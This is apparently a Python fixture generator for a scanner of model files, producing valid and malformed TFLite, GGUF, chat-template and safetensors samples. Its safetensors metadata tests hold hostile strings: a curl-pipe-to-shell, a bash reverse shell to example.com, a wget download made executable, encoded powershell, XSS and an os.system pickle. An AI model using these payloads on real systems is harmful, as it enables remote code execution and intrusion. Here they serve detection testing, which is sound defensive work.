def tflite(custom=None, shape=(1, 2), buffer=1, data=b"\0" * 8, inputs=(0,), operator_inputs=(0,), code=0, graph_output=0,
           metadata=None, external=None, builtin=0, kind=0):
    b = flatbuffers.Builder(0)
    payload = b.CreateByteVector(data)
    custom_text = b.CreateString(custom) if custom else None
    name = b.CreateString("weight")
    b.StartObject(3)
    empty = b.EndObject()
    b.StartObject(3)
    if external:
        b.PrependUint64Slot(1, external[0], 0)
        b.PrependUint64Slot(2, external[1], 0)
    else:
        b.PrependUOffsetTRelativeSlot(0, payload, 0)
    filled = b.EndObject()
    buffers = vector(b, [empty, filled])
    b.StartObject(4)
    b.PrependInt8Slot(0, 32 if custom else builtin, 0)
    if custom:
        b.PrependUOffsetTRelativeSlot(1, custom_text, 0)
    b.PrependInt32Slot(3, 32 if custom else builtin, 0)
    codes = vector(b, [b.EndObject()])
    sizes = ints(b, shape)
    b.StartObject(10)
    b.PrependUOffsetTRelativeSlot(0, sizes, 0)
    b.PrependInt8Slot(1, kind, 0)
    b.PrependUint32Slot(2, buffer, 0)
    b.PrependUOffsetTRelativeSlot(3, name, 0)
    tensors = vector(b, [b.EndObject()])
    (i, o, oi, oo) = (ints(b, inputs), ints(b, [graph_output]), ints(b, operator_inputs), ints(b, [0]))
    b.StartObject(9)
    b.PrependUint32Slot(0, code, 0)
    b.PrependUOffsetTRelativeSlot(1, oi, 0)
    b.PrependUOffsetTRelativeSlot(2, oo, 0)
    operators = vector(b, [b.EndObject()])
    b.StartObject(5)
    b.PrependUOffsetTRelativeSlot(0, tensors, 0)
    b.PrependUOffsetTRelativeSlot(1, i, 0)
    b.PrependUOffsetTRelativeSlot(2, o, 0)
    b.PrependUOffsetTRelativeSlot(3, operators, 0)
    graphs = vector(b, [b.EndObject()])
    meta = None
    if metadata is not None:
        label = b.CreateString("TFLITE_METADATA")
        b.StartObject(2)
        b.PrependUOffsetTRelativeSlot(0, label, 0)
        b.PrependUint32Slot(1, metadata, 0)
        meta = vector(b, [b.EndObject()])
    b.StartObject(8)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, codes, 0)
    b.PrependUOffsetTRelativeSlot(2, graphs, 0)
    b.PrependUOffsetTRelativeSlot(4, buffers, 0)
    if meta:
        b.PrependUOffsetTRelativeSlot(6, meta, 0)
    b.Finish(b.EndObject(), b"TFL3")
    return bytes(b.Output())


for name in ("FlexWriteFile", "FlexReadFile", "FlexPyFunc", "FlexEagerPyFunc", "FlexSaveV2", "FlexErf", "MyOperator"):
    bad(f"tfl001_{name.lower()}.tflite", tflite(name))
good("detection.tflite", tflite("TFLite_Detection_PostProcess"))
good("edgetpu.tflite", tflite("edgetpu-custom-op"))
good("plain.tflite", tflite())
good("metadata.tflite", tflite(metadata=1))
bad("tfl002_buffer.tflite", tflite(buffer=7))
bad("tfl002_buffer_huge.tflite", tflite(buffer=0xFFFFFFFF))
bad("tfl002_input.tflite", tflite(inputs=(9,)))
bad("tfl002_operator_input.tflite", tflite(operator_inputs=(100,)))
bad("tfl002_operator_negative.tflite", tflite(operator_inputs=(-5,)))
bad("tfl002_code.tflite", tflite(code=3))
bad("tfl002_negative_shape.tflite", tflite(shape=(-1, 2)))
bad("tfl002_overflow.tflite", tflite(shape=(2**31 - 1, 2**31 - 1, 2**31 - 1)))
bad("tfl002_size.tflite", tflite(shape=(64, 64)))
bad("tfl002_output.tflite", tflite(graph_output=-1))
bad("tfl002_metadata.tflite", tflite(metadata=55))
bad("tfl002_external.tflite", tflite(external=(1 << 40, 8)))
bad("tfl002_texts.tflite", tflite(shape=(1,), kind=5, data=struct.pack("<iii", 1, 12, 0x7FFFFFF) + b"text"))
good("texts.tflite", tflite(shape=(1,), kind=5, data=struct.pack("<iii", 1, 12, 16) + b"text"))
plain = tflite()
bad("tfl002_root.tflite", struct.pack("<I", 0x7FFFFFF0) + plain[4:])
for place in range(8, 40, 4):
    changed = bytearray(plain)
    position = struct.unpack_from("<I", plain)[0]
    struct.pack_into("<i", changed, position, 0x7FFFFFF)
bad("tfl002_vtable.tflite", bytes(changed))
changed = bytearray(plain)
at = plain.index(struct.pack("<I", 8) + b"\0" * 8)
struct.pack_into("<I", changed, at, 0x40000000)
bad("tfl002_vector.tflite", bytes(changed))


good("labels.tflite", tflite() + zipped(("labels.txt", "cat\ndog\n")))
bad("tflite_zip_pickle.tflite", tflite() + zipped(("data.pkl", b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04echo\x85R.")))

# --- GGUF -------------------------------------------------------------------------------------------------------
def text(value, order="<", wide=True):
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack(order + ("Q" if wide else "I"), len(raw)) + raw


def pair(key, kind, value, order="<", wide=True):
    return text(key, order, wide) + struct.pack(order + "I", kind) + value


def tensor(name, sizes, kind, offset, order="<", wide=True):
    return (text(name, order, wide) + struct.pack(order + "I", len(sizes))
            + b"".join(struct.pack(order + ("Q" if wide else "I"), s) for s in sizes) + struct.pack(order + "IQ", kind, offset))


def gguf(pairs=(), tensors=(), data=b"", version=3, counts=None, order="<", alignment=32):
    wide = version > 1
    basic = [pair("general.architecture", 8, text("llama", order, wide), order, wide)]
    pairs = basic + list(pairs)
    n, k = counts or (len(tensors), len(pairs))
    head = b"GGUF" + struct.pack(order + "I" + ("QQ" if wide else "II"), version, n, k) + b"".join(pairs) + b"".join(tensors)
    return head + b"\0" * (-len(head) % alignment) + data


def template(source, key="tokenizer.chat_template"):
    return gguf([pair(key, 8, text(source))])


two = [tensor("a", [4, 2], 0, 0), tensor("b", [32], 8, 32)]
good("plain.gguf", gguf(tensors=two, data=b"\1" * 96))
good("version1.gguf", gguf(tensors=[tensor("a", [4, 2], 0, 0, wide=False)], data=b"\1" * 32, version=1))
good("version2.gguf", gguf(tensors=two, data=b"\1" * 96, version=2))
good("big_endian.gguf", gguf(tensors=[tensor("a", [4, 2], 0, 0, ">")], data=b"\1" * 32, order=">"))
good("aligned.gguf", gguf([pair("general.alignment", 4, struct.pack("<I", 64))], [tensor("a", [4], 0, 0), tensor("b", [4], 0, 64)], b"\1" * 128, alignment=64))
good("arrays.gguf", gguf([pair("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 3) + text("a") + text("__class__") + text("os.system")),
                          pair("x.y", 9, struct.pack("<IQ", 5, 2) + struct.pack("<ii", 1, 2))], two, b"\1" * 96))
bad("gg001_tensor_count.gguf", gguf(counts=(2**60, 1)))
bad("gg001_tensor_count_max.gguf", gguf(counts=(2**64 - 1, 1)))
bad("gg001_pair_count.gguf", gguf(counts=(0, 2**62)))
bad("gg001_text_length.gguf", gguf([text("k") + struct.pack("<IQ", 8, 2**63 + 5)]))
bad("gg001_text_length_max.gguf", gguf([text("k") + struct.pack("<IQ", 8, 2**64 - 1)]))
bad("gg001_key_length.gguf", gguf([struct.pack("<Q", 2**40)]))
bad("gg001_array_length.gguf", gguf([text("k") + struct.pack("<IIQ", 9, 10, 2**61)]))
bad("gg001_array_texts.gguf", gguf([text("k") + struct.pack("<IIQ", 9, 8, 2**62)]))
bad("gg001_dimensions.gguf", gguf(tensors=[tensor("a", [2**33, 2**33], 0, 0)], data=b"\1" * 32))
bad("gg001_dimension_wrap.gguf", gguf(tensors=[tensor("a", [2**32, 2**32, 4], 0, 0)], data=b"\1" * 32))
bad("gg001_dimension_size.gguf", gguf(tensors=[tensor("a", [2**62], 0, 0)], data=b"\1" * 32))
bad("gg001_dimension_negative.gguf", gguf(tensors=[tensor("a", [2**64 - 1], 0, 0)], data=b"\1" * 32))
bad("gg001_rank.gguf", gguf(tensors=[tensor("a", [1] * 9, 0, 0)], data=b"\1" * 32))
bad("gg001_offset.gguf", gguf(tensors=[tensor("a", [4], 0, 2**40)], data=b"\1" * 32))
bad("gg001_offset_wrap.gguf", gguf(tensors=[tensor("a", [4], 0, 2**64 - 32)], data=b"\1" * 32))
bad("gg001_beyond.gguf", gguf(tensors=[tensor("a", [4096], 0, 0)], data=b"\1" * 32))
bad("gg001_overlap.gguf", gguf(tensors=[tensor("a", [16], 0, 0), tensor("b", [16], 0, 32)], data=b"\1" * 96))
bad("gg001_hole.gguf", gguf(tensors=[tensor("a", [8], 0, 0), tensor("b", [8], 0, 4096)], data=b"\1" * 4128))
bad("gg001_unaligned.gguf", gguf(tensors=[tensor("a", [4], 0, 0), tensor("b", [4], 0, 33)], data=b"\1" * 96))
bad("gg001_type.gguf", gguf(tensors=[tensor("a", [4], 250, 0)], data=b"\1" * 32))
bad("gg001_value_type.gguf", gguf([text("k") + struct.pack("<I", 99) + b"\0" * 8]))
bad("gg001_duplicate_key.gguf", gguf([pair("k", 4, b"\0" * 4), pair("k", 4, b"\1" * 4)]))
bad("gg001_duplicate_tensor.gguf", gguf(tensors=[tensor("a", [8], 0, 0), tensor("a", [8], 0, 32)], data=b"\1" * 64))
bad("gg001_alignment.gguf", gguf([pair("general.alignment", 4, struct.pack("<I", 0))], [tensor("a", [8], 0, 0)], b"\1" * 64))
bad("gg001_alignment_odd.gguf", gguf([pair("general.alignment", 4, struct.pack("<I", 33))], [tensor("a", [8], 0, 0)], b"\1" * 64))
bad("gg001_block.gguf", gguf(tensors=[tensor("a", [33], 8, 0)], data=b"\1" * 96))
bad("gg001_big_endian.gguf", gguf(tensors=[tensor("a", [2**33, 2**33], 0, 0, ">")], data=b"\1" * 32, order=">"))
bad("gguf_zip_behind.gguf", gguf(tensors=two, data=b"\1" * 96) + zipped(("data.pkl", b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04echo\x85R.")))
whole = gguf([pair("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 200) + text("token") * 200)], two, b"\1" * 96)
good("split.gguf", gguf([pair("split.no", 2, b"\0\0"), pair("split.count", 2, b"\2\0"), pair("general.license.link", 8, text("https://example.com/license"))], two, b"\1" * 96))
incomplete("cut.gguf", whole[:900])
incomplete("version9.gguf", gguf(version=9))

# --- chat templates ---------------------------------------------------------------------------------------------
exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "chat_templates.py")).read())
for name, source in GOOD_TEMPLATES.items():
    good(f"template_{name}.jinja", source)
    good(f"template_{name}.gguf", template(source))
for name, source in ESCAPES.items():
    bad(f"gg002_{name}.gguf", template(source))
    bad(f"gg002_{name}.jinja", source)
for name, source in TRIGGERS.items():
    bad(f"gg003_{name}.gguf", template(source))
first, second = next(iter(GOOD_TEMPLATES.values())), list(GOOD_TEMPLATES.values())[3]
escape = ESCAPES["mro"]
good("tokenizer_config.json", json.dumps({"bos_token": "<s>", "model_max_length": 1000000000000000019884624838656, "chat_template": first}))
good("chat_template.json", json.dumps({"chat_template": second}))
good("processor_config.json", json.dumps({"processor_class": "LlavaProcessor", "patch_size": 14}))
good("named_tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": first}, {"name": "tool_use", "template": second}]}))
bad("gg002_tokenizer_config.json", json.dumps({"chat_template": escape}))
bad("gg002_named_tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": first}, {"name": "tool_use", "template": escape}]}))
bad("gg002_chat_template.json", json.dumps({"chat_template": {"default": escape}}))
bad("gg002_second.gguf", gguf([pair("tokenizer.chat_template", 8, text(first)), pair("tokenizer.chat_template.tool_use", 8, text(escape))]))
bad("gg003_chat_template.json", json.dumps({"chat_template": TRIGGERS["word"]}))
incomplete("unparsed.jinja", "{% for m in messages %}{{ m.content ")
incomplete("endless.jinja", "{% for message in messages %}{{ message['content'] }}")


# --- safetensors ------------------------------------------------------------------------------------------------
def st(header, data=b"\0" * 16, length=None):
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def entry(kind="F32", shape=(4,), offsets=(0, 16)):
    return {"dtype": kind, "shape": list(shape), "data_offsets": list(offsets)}


w = entry()
bad("st001_dtype.safetensors", st({"w": entry("F77")}))
bad("st001_size.safetensors", st({"w": entry(shape=(5,))}))
bad("st001_overflow.safetensors", st({"w": entry(shape=(2**40, 2**40))}))
bad("st001_negative.safetensors", st({"w": entry(shape=(-4,))}))
bad("st001_float.safetensors", st({"w": {"dtype": "F32", "shape": [4.0], "data_offsets": [0, 16]}}))
bad("st001_exponent.safetensors", st(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16e0]}}'))
bad("st001_reversed.safetensors", st({"w": entry(offsets=(16, 0))}))
bad("st001_trailing.safetensors", st({"w": w}, b"\0" * 64))
bad("st001_overlap.safetensors", st({"a": w, "b": entry(offsets=(8, 24))}, b"\0" * 24))
bad("st001_hole.safetensors", st({"a": w, "b": entry(offsets=(32, 48))}, b"\0" * 48))
bad("st001_same.safetensors", st({"a": w, "b": w}))
bad("st001_header_length.safetensors", st({"w": w}, length=10**6))
bad("st001_header_huge.safetensors", st({"w": w}, length=2**63))
bad("st001_metadata_number.safetensors", st({"__metadata__": {"x": 5}, "w": w}))
bad("st001_metadata_nested.safetensors", st({"__metadata__": {"x": {"y": "z"}}, "w": w}))
bad("st001_list.safetensors", st({"w": [1, 2]}))
bad("st001_missing.safetensors", st({"w": {"dtype": "F32", "shape": [4]}}))
bad("st001_index.json", json.dumps({"metadata": {"total_size": 16}, "weight_map": {"w": "../../other.safetensors"}}))
bad("st002_unicode_key.safetensors", st(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"\\u0077":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'))
bad("st002_metadata_key.safetensors", st(b'{"__metadata__":{"a":"1","a":"2"},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'))
bad("st002_field.safetensors", st(b'{"w":{"dtype":"F32","dtype":"I32","shape":[4],"data_offsets":[0,16]}}'))
bad("st002_leading_space.safetensors", st(b"   " + json.dumps({"w": w}).encode()))
bad("st002_padding.safetensors", st(json.dumps({"w": w}).encode() + b" " * 200_000))
bad("st002_padding_data.safetensors", st(json.dumps({"w": w}).encode() + b"\0\0\0\0hidden\0\0"))
bad("st002_inner_space.safetensors", st(b'{"w":' + b" " * 200_000 + json.dumps(w).encode() + b"}"))
for name, value in [
    ("import", "__import__('os').system('echo')"), ("eval", "eval(open('x').read())"), ("shell", "curl http://example.com/x.sh | sh"),
    ("script", "<script>alert(1)</script>"), ("handler", "<img src=x onerror=alert(1)>"), ("javascript", "javascript:alert(1)"), ("pickle", pickled + "A" * 8),
    ("pickle_plain", "cos\nsystem\n(S'echo'\ntR."), ("subprocess", "import subprocess; subprocess.run(['echo'])"),
    ("powershell", "powershell -enc ZQBjAGgAbwA="), ("jinja", "{{ ''.__class__.__mro__ }}"), ("reverse", "bash -i >& /dev/tcp/example.com/1 0>&1"),
    ("decode", "exec(base64.b64decode('cHJpbnQoMSk='))"), ("popen", "os.popen('echo').read()"), ("hex_pickle", b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04echo\x85R.".hex()),
    ("wget", "wget -q http://example.com/a -O /tmp/a && chmod +x /tmp/a"), ("nested", json.dumps({"a": {"b": "__import__('os').system('echo')"}})),
    ("executable", "see https://example.com/update.exe"),
]:
    bad(f"st003_{name}.safetensors", st({"__metadata__": {"note": value}, "w": w}))
good("plain.safetensors", st({"__metadata__": {"format": "pt"}, "w": w}))
good("scalar.safetensors", st({"w": entry(shape=(), offsets=(0, 4)), "e": entry(shape=(0, 3), offsets=(4, 4))}, b"\0" * 4))
good("empty.safetensors", st({}, b""))
good("aligned.safetensors", st(json.dumps({"w": w}).encode() + b" " * 4000))
good("training.safetensors", st({"__metadata__": {
    "ss_network_module": "networks.lora", "ss_tag_frequency": json.dumps({"img": {"1girl": 3, "eval (game)": 1, "exec outfit": 2, "bash brothers": 1}}),
    "ss_bucket_info": json.dumps({"buckets": {"0": {"resolution": [512, 512], "count": 3}}}), "ss_training_comment": "use model.eval() first; see https://huggingface.co/x/y and https://github.com/a/b/blob/main/train.py",
    "ss_network_args": json.dumps({"conv_dim": 4}), "ss_optimizer": "bitsandbytes.optim.adamw.AdamW8bit", "ss_session_id": "2741", "ss_lr_scheduler": "cosine",
    "modelspec.sai_model_spec": "1.0.0", "modelspec.description": "languages: python, javascript: yes; subprocess. The powershell icon.", "modelspec.hash_sha256": "0x" + "ab" * 32,
    "modelspec.thumbnail": "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD" + "A" * 80, "sshs_model_hash": "ab" * 32, "prompt": "a cat, <lora:x:0.8>, {red|blue} background, [from:to:0.5]",
    "workflow": json.dumps({"nodes": [{"type": "KSampler", "inputs": {"seed": 1}}]}), "license": "https://creativecommons.org/licenses/by/4.0/"}, "w": w}))
good("quantized.safetensors", st({"w": entry("F8_E4M3", (16,)), "__metadata__": {"format": "pt", "quantization": "compressed-tensors"}}))
good("index.json", json.dumps({"metadata": {"total_size": 16}, "weight_map": {"w": "model-00001-of-00002.safetensors"}}))
